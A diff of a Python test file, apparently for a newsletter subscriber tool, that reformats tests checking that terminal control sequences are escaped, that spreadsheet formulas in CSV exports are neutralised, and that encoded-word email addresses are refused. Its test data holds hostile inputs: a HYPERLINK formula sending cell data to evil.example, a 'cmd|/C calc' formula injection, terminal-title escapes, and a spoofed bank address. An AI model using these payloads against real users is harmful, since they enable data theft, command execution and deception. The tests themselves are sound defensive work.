@@ -50,7 +50,15 @@ TITLE = "\x1b]0;owned\x07"  # OSC 0: set the terminal's title, ended by BEL
 
 def test_subscribers_list_escapes_control_characters(tmp_path: Path) -> None:
     path = config(tmp_path)
-    code, _, err = run("subscribers", "add", "ana@example.com", "--name", f"Ana{TITLE}\r\u202egnp.exe\tx", "--config", str(path))
+    code, _, err = run(
+        "subscribers",
+        "add",
+        "ana@example.com",
+        "--name",
+        f"Ana{TITLE}\r\u202egnp.exe\tx",
+        "--config",
+        str(path),
+    )
     assert code == 0, err
     with open_ledger(tmp_path / "distrib.sqlite") as ledger:
         subs.unsubscribe(ledger, "ana@example.com", f"550 bounce{TITLE}", "bounced")
@@ -58,7 +66,10 @@ def test_subscribers_list_escapes_control_characters(tmp_path: Path) -> None:
     assert code == 0, err
     [line] = out.splitlines()
     assert not any(c in out for c in "\x1b\x07\r\u202e")
-    assert line == "ana@example.com\tAna\\x1b]0;owned\\x07\\x0d\\u202egnp.exe\\x09x\tbounced  (550 bounce\\x1b]0;owned\\x07)"
+    assert (
+        line
+        == "ana@example.com\tAna\\x1b]0;owned\\x07\\x0d\\u202egnp.exe\\x09x\tbounced  (550 bounce\\x1b]0;owned\\x07)"
+    )
 
 
 def test_errors_and_log_lines_escape_what_they_quote(tmp_path: Path) -> None:
@@ -68,10 +79,21 @@ def test_errors_and_log_lines_escape_what_they_quote(tmp_path: Path) -> None:
     assert "\x1b" not in err and "\x07" not in err and "is not an email address" in err
 
 
-FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "'=already quoted", "''+twice", "plain 'quote"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "'=already quoted",
+    "''+twice",
+    "plain 'quote",
+]
 
 
-def test_export_neutralises_formulas_and_import_reads_the_values_back(ledger: Ledger, tmp_path: Path) -> None:
+def test_export_neutralises_formulas_and_import_reads_the_values_back(
+    ledger: Ledger, tmp_path: Path
+) -> None:
     for i, name in enumerate(FORMULAS):
         subs.add(ledger, f"reader{i}@example.com", name)
     subs.add(ledger, "=1+2@example.com", "-Minus")
@@ -98,9 +120,15 @@ def test_export_neutralises_formulas_and_import_reads_the_values_back(ledger: Le
 
 @pytest.mark.parametrize(
     "address",
-    ["=?utf-8?b?YWRtaW5AYmFuay5leGFtcGxl?=@example.com", "=?UTF-8?Q?support=40bank.example?=@evil.example", "a=?x@example.com"],
+    [
+        "=?utf-8?b?YWRtaW5AYmFuay5leGFtcGxl?=@example.com",
+        "=?UTF-8?Q?support=40bank.example?=@evil.example",
+        "a=?x@example.com",
+    ],
 )
-def test_an_encoded_word_local_part_is_refused_everywhere(address: str, tmp_path: Path, ledger: Ledger) -> None:
+def test_an_encoded_word_local_part_is_refused_everywhere(
+    address: str, tmp_path: Path, ledger: Ledger
+) -> None:
     with pytest.raises(ValueError, match="encoded word"):
         subs.normalise_address(address)
     path = config(tmp_path)
